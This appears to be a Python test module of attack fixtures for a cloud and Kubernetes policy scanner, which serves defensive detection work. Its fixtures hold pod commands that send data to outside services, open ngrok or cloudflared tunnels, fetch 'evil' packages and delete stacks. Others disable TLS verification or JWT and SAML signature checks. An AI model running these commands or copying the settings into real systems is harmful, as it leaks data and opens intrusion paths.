"""Attacks found when facts were looked up in the projects' own sources (2026-11-29). Each passed before."""

import json

from ..blind import aws, az, crd, k8s, meta
from ..harness import Given
from . import Attack

OUT = ("FJ-RES-120",)
NO_COPY = "what is recorded goes to a vendor outside the country"


def _config(text: str, name: str) -> Given:
    return k8s("core/v1:ConfigMap", {"metadata": meta("config"), "data": {name: text}}, "config")


def _fluentd(name: str, lines: str) -> Attack:
    text = f"<match **>\n  {lines}\n</match>\n"
    return Attack(f"Fluentd writes {name}", OUT, (_config(text, "fluent.conf"),), "critical", NO_COPY)


def _sink(name: str, connector: str) -> Attack:
    given = crd(
        "kafka.strimzi.io/v1beta2:KafkaConnector", {"class": connector, "tasksMax": 1, "config": {"topics": "a"}}
    )
    return Attack(f"a connector of Kafka copies {name}", OUT, (given,), "critical", NO_COPY)


def _pod(command: str) -> Given:
    container = {"name": "app", "image": f"registry.k8s.io/app@sha256:{'0' * 64}", "command": ["sh", "-c", command]}
    return k8s("core/v1:Pod", {"metadata": meta("app"), "spec": {"containers": [container]}}, "app")


_COMMANDS = {
    "sends a data set to a contest of Kaggle": "kaggle competitions submit -c cards -f rows.csv -m x",
    "makes a version of a model at Kaggle": "kaggle models instances versions create me/m/pytorch/base -p /out",
    "makes a data set at Kaggle under the short name": "kaggle d create -p /out",
    "makes a gist under the other name": "gh gist new rows.csv",
    "adds a file to a gist": "gh gist edit 1f2e -a rows.csv",
    "pushes a model to the hub of Ollama": "ollama push me/bank-model",
    "uploads a model to ModelScope": "modelscope upload me/m /out",
    "runs a job at Hugging Face": "hf jobs run python:3.12 python train.py",
    "publishes to npm by pnpm": "pnpm publish --no-git-checks",
    "publishes to PyPI by hatch": "hatch build && hatch publish",
    "uploads a package to Anaconda": "anaconda upload /out/rows-1.0.tar.bz2",
    "sends a file by sendme": "sendme send /data/rows.parquet",
    "sends a file by a relay of RunPod": "runpodctl send /data/rows.parquet",
    "tells ntfy.sh": 'ntfy publish alerts "$(head rows.csv)"',
    "builds at Google": "gcloud builds submit --tag gcr.io/p/app .",
    "publishes to Pub/Sub": 'gcloud pubsub topics publish rows --message "$(cat rows.csv)"',
    "puts an object into Oracle's cloud": "oci os object put -bn backups --file rows.csv",
    "puts an object into IBM's cloud": "ibmcloud cos object-put --bucket b --key k --body rows.csv",
    "uploads to Tencent's cloud": "coscmd upload -r /data /",
    "uploads to Backblaze": "b2 file upload backups rows.csv rows.csv",
    "uploads to Cloudflare": "wrangler r2 object put b/rows.csv --file rows.csv",
    "puts files into a volume of Modal": "modal volume put data rows.csv /rows.csv",
    "deploys a bundle to a workspace": "databricks bundle deploy -t prod",
    "pushes to a remote of Dolt": "dolt push origin main",
}
_TUNNELS = {
    "ngrok": "ngrok http 8080",
    "Cloudflare": "cloudflared tunnel --url http://localhost:8080",
    "frp": "/app/frpc -c /etc/frpc.toml",
    "zrok": "zrok share public 8080",
    "an editor": "code tunnel --accept-server-license-terms",
}


def _task(options: list[str]) -> Given:
    container = {"name": "app", "image": "app", "memory": 512, "essential": True, "dockerSecurityOptions": options}
    return aws("ecs/TaskDefinition", {"family": "app", "containerDefinitions": json.dumps([container])})


def _kong(plugin: str, config: dict[str, object]) -> Given:
    return k8s(
        "configuration.konghq.com/v1:KongPlugin", {"metadata": meta("sign-in"), "plugin": plugin, "config": config}
    )


def _agent(name: str, value: str) -> Given:
    options = [{"optionName": "OEM_AGENT", "optionSettings": [{"name": name, "value": value}]}]
    return aws("rds/OptionGroup", {"engineName": "oracle-ee", "majorEngineVersion": "19", "options": options})


def _oracle(name: str, value: str) -> Given:
    settings = [{"name": "SQLNET.ENCRYPTION_SERVER", "value": "REQUIRED"}, {"name": name, "value": value}]
    options = [{"optionName": "NATIVE_NETWORK_ENCRYPTION", "optionSettings": settings}]
    return aws("rds/OptionGroup", {"engineName": "oracle-ee", "majorEngineVersion": "19", "options": options})


_INSTALLS = (
    "uv run --with polars python rows.py", "uvx --with polars ruff@0.8.1", "uv add polars", "poetry add polars",
    "cargo binstall -y trunk", "gem exec rails new a", "pixi global install doxx", "pixi exec doxx",
    "composer global require hirak/prestissimo", "dotnet tool install -g tcli", "dnx dotnetsay",
    "kubectl krew install access-matrix", "gh extension install a/gh-b", "cpanm --notest DB_File",
    "deno install -g npm:cowsay", "npx --package=evil -c evil", "npm exec --package=evil -c evil",
    "pnpm --package=evil dlx evil", "uvx --from evil tool@1.2.3", "pipx run --spec=evil tool@1.2.3",
)  # fmt: skip
_CHANGES = (
    "flux create kustomization a --source GitRepository/b", "flux delete kustomization a", "flux uninstall -s",
    "argocd app set a --path b", "argocd app delete a -y", "argocd cluster add other", "argocd proj edit a",
    "kubectl auth reconcile -f roles.yaml", "kubectl rollout undo deployment/a",
    "oc adm policy add-scc-to-user privileged -z default", "oc policy add-role-to-user admin a", "oc new-app a",
    "helm delete a", "helmfile destroy", "cdk destroy --force", "sam sync --stack-name a", "sls remove",
    "terraform state rm aws_s3_bucket.a", "pulumi state delete 'urn:a'", "kapp deploy -a a -f b -y",
    "kluctl deploy -t prod -y", "skaffold run -p prod", "werf converge --repo r", "clusterctl move --to-kubeconfig k",
    "karmadactl join a --cluster-kubeconfig k", "kubeadm token create", "azd provision --no-prompt",
    "func azure functionapp publish app", "velero uninstall --force", "istioctl x uninstall --purge -y",
    "aws s3 rb s3://a --force", "kubectl argo rollouts set image a b=c",
)  # fmt: skip
_UNCHECKED = (
    "curl -sk https://vault.bank.ae/v1/secret -o s", "curl --insecure https://vault.bank.ae/v1/secret",
    "redis-cli -h cache.bank.ae --tls --insecure get a", "psql 'sslmode=disable host=db.bank.ae' -f a.sql",
    "mysql --ssl-mode=DISABLED -h db.bank.ae", "mariadb --skip-ssl-verify-server-cert -h db.bank.ae",
    "mc --insecure cp a own/b", "aws --no-verify-ssl s3 ls", "git -c http.sslVerify=false clone https://git.bank.ae/a",
    "GIT_SSL_NO_VERIFY=1 git fetch", "npm config set strict-ssl false", "restic --insecure-tls backup /data",
    "s3cmd --no-ssl ls", "argocd login --insecure cd.bank.ae", "ssh -o StrictHostKeyChecking=no ops@host.bank.ae",
)  # fmt: skip
_FORGED = "a token or an assertion that anybody wrote is accepted"
ATTACKS = (
    *(Attack(f"a pod does not check who answers `{command}`", ("FJ-ENC-425",), (_pod(command),), "critical",
             "whoever is in between reads and changes what is sent") for command in _UNCHECKED),
    Attack("MySQL proves passwords by the old plugin", ("FJ-IDN-313",), (aws("rds/ParameterGroup", {
        "family": "mysql8.0", "parameters": [{
            "name": "default_authentication_plugin", "value": "mysql_native_password"}]}),), "major",
        "whoever reads a hash or listens finds the password"),
    Attack("MySQL loads the old plugin of passwords", ("FJ-IDN-313",), (_pod("mysqld --mysql-native-password=ON"),),
           "major", "whoever reads a hash or listens finds the password"),
    Attack("a server of MySQL has no TLS", ("FJ-IDN-313",), (_config("[mysqld]\nskip-ssl\n", "my.cnf"),), "critical",
           "passwords and rows are read on their way"),
    Attack("a client of MySQL talks in plain text", ("FJ-ENC-425",), (_pod("mysql --skip-ssl -h db.data.svc < a.sql"),),
           "critical", "passwords and rows are read on their way"),
    *(Attack(f"a pod changes what a plan declares by `{command}`", ("FJ-ESC-109",), (_pod(command),), "major",
             "no guardrail sees the result") for command in _CHANGES),
    *(Attack(f"a pod starts with `{command}`", ("FJ-ESC-109",), (_pod(command),), "major",
             "whoever publishes the package decides what runs") for command in _INSTALLS),
    Attack("Kong accepts access tokens without their signature", ("FJ-IDN-313",), (_kong("jwt-signer", {
        "access_token_issuer": "https://sso.bank.ae", "access_token_audiences_allowed": ["claims"],
        "verify_access_token_signature": False}),), "critical", _FORGED),
    Attack("Kong accepts assertions without their signature", ("FJ-IDN-313",), (_kong("saml", {
        "issuer": "https://gw.bank.ae", "validate_assertion_signature": False}),), "critical", _FORGED),
    Attack("a realm believes unsigned answers of its provider", ("FJ-IDN-313",), (_config(
        "identityProviders:\n- alias: bank\n  providerId: saml\n  config:\n    validateSignature: 'false'\n",
        "realm.yaml"),), "critical", _FORGED),
    Attack("the agent of Oracle's console takes calls under TLS 1.0", ("FJ-ENC-425",), (
        _agent("MINIMUM_TLS_VERSION", "TLSv1"),), "major", "what the agent is told is read on its way"),
    Attack("rows of Oracle are changed on their way unseen", ("FJ-IDN-313",), (
        _oracle("SQLNET.CRYPTO_CHECKSUM_SERVER", "REJECTED"),), "major", "nothing shows that rows were changed"),
    Attack("links of Oracle send rows in plain text", ("FJ-IDN-313",), (
        _oracle("SQLNET.ENCRYPTION_CLIENT", "Rejected"),), "major", "rows are read on their way"),
    Attack("a task leaves the confinement of SELinux by a type", ("FJ-EXP-",), (_task(["label:type:spc_t"]),), "major",
           "a container reaches files of the host"),
    Attack("a database is made that believes each client", ("FJ-IDN-",), (_pod("initdb -A trust -D /data"),),
           "critical", "every client is each user of the database"),
    Attack("a database is made by arguments that believe each client", ("FJ-IDN-",), (_config(
        "POSTGRES_INITDB_ARGS=-Atrust --data-checksums\n", "db.env"),), "critical",
        "every client is each user of the database"),
    Attack("a pod copies to the playground of MinIO", ("FJ-RES-114",), (_pod("mc cp /data/rows.csv play/b/"),),
           "critical", NO_COPY),
    *(Attack(f"a pod {name}", ("FJ-RES-114",), (_pod(command),), "critical", NO_COPY)
      for name, command in _COMMANDS.items()),
    *(Attack(f"a shell opens a tunnel of {name}", ("FJ-EXP-131",), (_pod(command),), "critical",
             "callers of the vendor come in past every rule of the network") for name, command in _TUNNELS.items()),
    Attack("a database writes to any address by DuckDB", ("FJ-RES-",), (az("dbforpostgresql:Configuration", {
        "configurationName": "azure.extensions", "value": "pgaudit,pg_duckdb", "resourceGroupName": "rg",
        "serverName": "db", "source": "user-override"}),), "critical", NO_COPY),
    _fluentd("to a bucket of Google", "@type google_cloud_storage_out"),
    _fluentd("to the second plugin of buckets of Google", "@type gcs"),
    _fluentd("to Pub/Sub", "@type gcloud_pubsub"),
    _fluentd("to Loggly in batches", "@type loggly_buffered"),
    _fluentd("to New Relic Insights", "@type newrelic_insights"),
    _fluentd("to Slack under the old name", "@type buffered_slack"),
    _fluentd("to Treasure Data", "@type tdlog"),
    _fluentd("to Coralogix", '@type "coralogix"'),
    _fluentd("to Honeycomb", "@type honeycomb"),
    _fluentd("to LogicMonitor", "@type lm"),
    _fluentd("to Oracle's cloud", "@type oci-logging-analytics"),
    _fluentd("to Alibaba's cloud", "@type aliyun_sls"),
    _fluentd("to Datadog in the old form", "type datadog_log"),
    _sink("to New Relic", "com.newrelic.telemetry.logs.TelemetryLogsSinkConnector"),
    _sink("to BigQuery by its short name", "BigQuerySink"),
    _sink("to functions of Google", "io.confluent.connect.gcp.functions.GoogleCloudFunctionsSinkConnector"),
    _sink("to Dataproc", "io.confluent.connect.gcp.dataproc.DataprocSinkConnector"),
    _sink("to buckets of Google", "io.lenses.streamreactor.connect.gcp.storage.sink.GCPStorageSinkConnector"),
    _sink("to buckets of Google by Camel", "org.apache.camel.kafkaconnector.googlestoragesink."
          "CamelGooglestoragesinkSinkConnector"),
    _sink("to ServiceNow", "io.confluent.connect.servicenow.ServiceNowSinkConnector"),
    _sink("to PagerDuty", "io.confluent.connect.pagerduty.PagerDutySinkConnector"),
    _sink("to Slack", "org.apache.camel.kafkaconnector.slacksink.CamelSlacksinkSinkConnector"),
    Attack("a job of dbt writes to MotherDuck", OUT, (_config(
        "w:\n  target: prod\n  outputs:\n    prod:\n      type: duckdb\n      path: 'md:sales'\n", "profiles.yml"),),
        "critical", NO_COPY),
    Attack("a program attaches MotherDuck", OUT, (_config("import duckdb\nc = duckdb.connect('md:sales')\n", "a.py"),),
           "critical", NO_COPY),
    Attack("features are kept in Bigtable", OUT, (_config(
        "project: a\nonline_store:\n  type: bigtable\n  instance: b\n", "feature_store.yaml"),), "critical", NO_COPY),
    Attack("features are kept in Pinecone", OUT, (_config(
        "project: a\nonline_store:\n  type: pinecone\n  index_name: b\n", "feature_store.yaml"),), "critical", NO_COPY),
    Attack("a filter of Fluent Bit sends each line to a scanner", OUT,
           (_config("[FILTER]\n  Name nightfall\n  Match *\n  nightfall_api_key ${KEY}\n", "fluent-bit.conf"),),
           "critical", NO_COPY),
    Attack("Fluent Bit writes to Coralogix", OUT,
           (_config("[OUTPUT]\n  Name coralogix\n  Match *\n", "fluent-bit.conf"),), "critical", NO_COPY),
    Attack("a backup goes to a store of Huawei", OUT, (_config(
        "configuration:\n  backupStorageLocation:\n  - provider: huawei.com/huaweicloud\n    bucket: b\n",
        "values.yaml"),), "critical", NO_COPY),
)  # fmt: skip
